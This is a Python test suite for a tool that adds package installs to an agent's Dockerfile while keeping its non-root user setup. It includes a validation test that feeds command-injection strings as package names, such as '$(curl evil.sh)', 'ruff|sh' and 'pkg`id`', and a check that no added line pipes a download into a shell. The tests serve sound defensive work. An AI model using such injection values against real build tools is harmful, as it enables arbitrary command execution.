"""The agent Dockerfile: a missing tool is installed with the file's own package manager, as the file's user."""

from __future__ import annotations

import difflib
from pathlib import Path

import pytest

from app.update.dockerfile import (
    DockerfileError,
    add_tool,
    package_managers,
    parse_dockerfile,
)

ATLAS = (
    Path(__file__).parent / "fixtures" / "update" / "atlas" / "docker" / "agent" / "Dockerfile"
).read_text()
NOTE = "# A3: {pkg} was missing from the agent's environment (added by self-improve)."


def added_lines(before: str, after: str) -> list[str]:
    """The lines the edit added, in order (the edit never removes any)."""
    diff = difflib.ndiff(before.splitlines(), after.splitlines())
    out = []
    for line in diff:
        assert not line.startswith("- "), f"a line was removed: {line!r}"
        if line.startswith("+ "):
            out.append(line[2:])
    return out


def test_apt_install_goes_before_the_switch_to_the_unprivileged_user() -> None:
    """atlas installs with apt-get as root, then `USER runner`: the new RUN sits between them."""
    result = add_tool(ATLAS, "ripgrep", item_id="A3")
    assert (result.manager, result.changed) == ("apt-get", True)
    lines = result.text.splitlines()
    at = lines.index(NOTE.format(pkg="ripgrep"))
    assert lines[at : at + 6] == [
        NOTE.format(pkg="ripgrep"),
        "RUN apt-get update \\",
        " && apt-get install -y --no-install-recommends ripgrep \\",
        " && rm -rf /var/lib/apt/lists/*",
        "",
        "USER runner",
    ]
    assert lines[at - 1] == ""  # a blank line separates it from the useradd step
    assert added_lines(ATLAS, result.text) == [*lines[at : at + 4], ""]


@pytest.mark.parametrize(
    ("dockerfile", "package", "manager", "install"),
    [
        (
            "FROM alpine:3.20\nRUN apk add --no-cache git\nRUN adduser -D agent\nUSER agent\n",
            "jq",
            "apk",
            ["RUN apk add --no-cache jq"],
        ),
        (
            'FROM fedora:40\nRUN dnf install -y git && dnf clean all\nCMD ["bash"]\n',
            "jq",
            "dnf",
            ["RUN dnf install -y jq && dnf clean all"],
        ),
        (
            "FROM centos:7\nRUN yum -y install git\n",
            "make",
            "yum",
            ["RUN yum install -y make && yum clean all"],
        ),
        (
            "FROM python:3.12-slim\nRUN pip install --no-cache-dir uv\nWORKDIR /workspace\n",
            "ruff==0.6.9",
            "pip",
            ["RUN pip install --no-cache-dir ruff==0.6.9"],
        ),
        (
            "FROM debian:12\nRUN apt-get update && apt-get install -y python3-pip\n"
            "RUN python3 -m pip install --break-system-packages black\n",
            "mypy",
            "pip",
            ["RUN python3 -m pip install --no-cache-dir --break-system-packages mypy"],
        ),
        (
            "FROM node:22-bookworm-slim\nUSER node\n",
            "pnpm@9.12.1",
            "npm",
            ["RUN npm install -g pnpm@9.12.1"],
        ),
        (
            "FROM rust:1.80\nRUN cargo install --locked just\n",
            "cargo-nextest",
            "cargo",
            ["RUN cargo install --locked cargo-nextest"],
        ),
        (
            "FROM debian:12 AS build\nRUN apt-get update && apt-get install -y gcc\n"
            "FROM alpine:3.20\nRUN apk add --no-cache bash\n",
            "jq",
            "apk",
            ["RUN apk add --no-cache jq"],
        ),
        (
            "FROM debian:12 AS base\nRUN apt-get update && apt-get install -y git\n"
            "FROM base\nWORKDIR /w\n",
            "jq",
            "apt-get",
            [
                "RUN apt-get update \\",
                " && apt-get install -y --no-install-recommends jq \\",
                " && rm -rf /var/lib/apt/lists/*",
            ],
        ),
    ],
    ids=[
        "apk",
        "dnf",
        "yum",
        "pip",
        "python-m-pip",
        "npm-from-node-image",
        "cargo",
        "last-stage",
        "stage-alias",
    ],
)
def test_the_install_uses_the_manager_the_file_already_uses(
    dockerfile: str, package: str, manager: str, install: list[str]
) -> None:
    """Each package manager gets its own non-interactive, cache-free install line."""
    result = add_tool(dockerfile, package, item_id="A3")
    assert result.manager == manager
    added = [ln for ln in added_lines(dockerfile, result.text) if ln]
    assert added == [NOTE.format(pkg=package), *install]


def test_without_a_non_root_user_the_install_follows_the_last_install() -> None:
    """No USER to keep: the RUN goes right after the file's last install with that manager."""
    text = "FROM python:3.12-slim\nRUN pip install --no-cache-dir uv\nWORKDIR /workspace\n"
    result = add_tool(text, "ruff", item_id="A3")
    assert result.text == (
        "FROM python:3.12-slim\nRUN pip install --no-cache-dir uv\n\n"
        f"{NOTE.format(pkg='ruff')}\nRUN pip install --no-cache-dir ruff\n\nWORKDIR /workspace\n"
    )


def test_a_comment_above_the_user_line_stays_with_it() -> None:
    """The explanation of `USER runner` is not separated from it by the new install."""
    text = "FROM debian:12\nRUN apt-get update && apt-get install -y git\n# drop privileges\nUSER runner\n"
    lines = add_tool(text, "jq").text.splitlines()
    assert lines[-2:] == ["# drop privileges", "USER runner"]


def test_root_is_borrowed_only_when_the_file_switches_to_root_itself() -> None:
    """At a non-root point the install is wrapped in `USER root` … `USER <that user>`."""
    text = (
        "FROM debian:12\nUSER root\nRUN apt-get update && apt-get install -y git\n"
        "USER builder\nRUN make\nUSER runner\n"
    )
    added = [ln for ln in added_lines(text, add_tool(text, "jq", item_id="A3").text) if ln]
    assert added[1] == "USER root"
    assert added[-1] == "USER builder"


def test_an_image_that_never_becomes_root_gets_no_install() -> None:
    """The file drops privileges before installing and never takes them back: refused, with why."""
    text = "FROM debian:12\nUSER builder\nRUN apt-get install -y git\nUSER runner\n"
    with pytest.raises(DockerfileError, match=r"needs root.*'builder'.*never switches to root"):
        add_tool(text, "jq", path="docker/agent/Dockerfile")


@pytest.mark.parametrize(
    ("dockerfile", "package"),
    [
        (ATLAS, "git"),
        (ATLAS, "git=1:2.39.5-0+deb12u1"),
        ("FROM node:22\nRUN npm install -g pnpm@9.12.1\n", "pnpm"),
        ("FROM python:3.12\nRUN pip install 'ruff==0.6.9' uv\n", "uv"),
    ],
)
def test_a_tool_that_is_installed_already_changes_nothing(dockerfile: str, package: str) -> None:
    """Idempotent: the package (by bare name) is installed by that manager already."""
    result = add_tool(dockerfile, package)
    assert (result.changed, result.text) == (False, dockerfile)


@pytest.mark.parametrize(
    "package",
    ["a;b", "$(curl evil.sh)", "ripgrep fd", "ruff|sh", "", "-y", "pkg`id`", "../x", "jq>1"],
)
def test_a_package_name_cannot_carry_shell_syntax(package: str) -> None:
    """Only plain names (with scope and version) reach a RUN line."""
    with pytest.raises(DockerfileError, match="is not a plain package name"):
        add_tool(ATLAS, package)


@pytest.mark.parametrize(
    ("dockerfile", "package", "manager", "message"),
    [
        (ATLAS, "ruff", None, "ruff comes from pip, which the Dockerfile does not use"),
        (ATLAS, "jq", "pip", "installs nothing with pip"),
        (ATLAS, "jq", "brew", "'brew' is not a package manager"),
        ("FROM scratch\nCOPY x /x\n", "jq", None, "uses no OS package manager"),
        ("# only a comment\n", "jq", None, "no FROM instruction"),
    ],
)
def test_what_cannot_be_installed_safely_is_refused(
    dockerfile: str, package: str, manager: str | None, message: str
) -> None:
    """A tool whose manager the file does not use, or a file without an image, is a follow-up."""
    with pytest.raises(DockerfileError, match=message):
        add_tool(dockerfile, package, manager=manager)


def test_no_install_pipes_a_download_into_a_shell() -> None:
    """Whatever the manager, the added lines never fetch a script and run it."""
    for text, pkg in [
        (ATLAS, "ripgrep"),
        ("FROM node:22\n", "pnpm"),
        ("FROM alpine\nRUN apk add git\n", "jq"),
    ]:
        added = "\n".join(added_lines(text, add_tool(text, pkg).text))
        assert "curl" not in added and "wget" not in added and "| sh" not in added


def test_parser_joins_continuations_skips_comments_and_keeps_heredocs() -> None:
    """Instructions are read as Docker reads them: `\\` joins lines, inner comments drop out."""
    text = (
        "# syntax=docker/dockerfile:1\nFROM debian:12\nRUN apt-get update \\\n"
        "# a note inside\n && apt-get install -y git\nRUN <<EOF\napt-get install -y curl\nEOF\nUSER me\n"
    )
    parsed = parse_dockerfile(text)
    assert [(i.keyword, i.start, i.end) for i in parsed] == [
        ("FROM", 1, 1),
        ("RUN", 2, 4),
        ("RUN", 5, 7),
        ("USER", 8, 8),
    ]
    assert parsed[1].args == "apt-get update && apt-get install -y git"
    assert package_managers(text) == ("apt-get",)


def test_backtick_escape_directive_is_honoured() -> None:
    """A Windows-style file with `# escape=\\``` continues lines with a backtick."""
    text = "# escape=`\nFROM debian:12\nRUN apt-get update `\n && apt-get install -y git\n"
    assert parse_dockerfile(text)[1].args == "apt-get update && apt-get install -y git"
    assert "RUN apt-get update `" in add_tool(text, "jq").text.splitlines()


def test_crlf_dockerfile_keeps_crlf() -> None:
    """The added lines use the file's own line ends."""
    text = "FROM alpine\r\nRUN apk add git\r\n"
    assert add_tool(text, "jq").text == (
        "FROM alpine\r\nRUN apk add git\r\n\r\n"
        "# self-improve: jq was missing from the agent's environment (added by self-improve).\r\n"
        "RUN apk add --no-cache jq\r\n"
    )
